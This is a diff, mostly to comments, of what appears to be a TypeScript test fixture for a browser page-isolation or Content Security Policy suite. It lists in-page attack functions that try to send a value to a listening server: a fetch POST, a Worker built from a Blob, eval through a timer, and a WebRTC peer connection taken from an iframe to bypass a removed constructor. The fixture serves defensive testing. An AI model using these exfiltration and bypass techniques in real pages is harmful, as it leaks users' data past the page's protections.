@@ -1,6 +1,4 @@
-/**
- * What a script that got into a page would try, so that a value leaves it. `elsewhere` is a server that listens.
- */
+/** What a script that got into a page would try in order to send a value out. `elsewhere` is a server that listens. */
 export type Attack = (elsewhere: string) => unknown;
 
 /** Imports of modules from elsewhere, as code: the test runner would rewrite a function that imports. */
@@ -11,8 +9,8 @@ export const IMPORTS: Readonly<Record<string, (elsewhere: string) => string>> = 
 };
 
 /**
- * Each runs in the page. It has got through when the server hears its name, or when it is in `data-ran` of the page's
- * root: code made from text says so there. The last ones would lead away from the page.
+ * Each runs in the page. It has got through if the server receives its name, or if the name is in `data-ran` of the
+ * page's root: code made from text reports there. The last ones would lead away from the page.
  */
 export const ATTACKS: Readonly<Record<string, Attack>> = {
   fetch: (elsewhere) => fetch(`${elsewhere}/fetch`, { method: 'POST', body: 'value' }),
@@ -86,7 +84,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     const source = new Blob([`fetch('${elsewhere}/worker')`], { type: 'text/javascript' });
     new Worker(URL.createObjectURL(source));
   },
-  // What the debugger calls may make code from text; what a timer calls is the page itself.
+  // The debugger may make code from text in what it calls; a timer's code belongs to the page itself.
   eval: () => {
     // biome-ignore lint/security/noGlobalEval: this is the attack.
     setTimeout(() => eval('document.documentElement.dataset.ran += " eval"'));
@@ -137,7 +135,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
  * script chooses. https://www.w3.org/TR/CSP3/#directive-webrtc is not in any browser yet.
  */
 export const PEER_CONNECTION = async ({ port, value }: { port: number; value: string }) => {
-  // The page has taken away its own; a frame has another.
+  // The page has removed its own constructor; a frame has another.
   const frame = document.body.appendChild(document.createElement('iframe'));
   const Peer: typeof RTCPeerConnection = Reflect.get(
     frame.contentWindow ?? {},
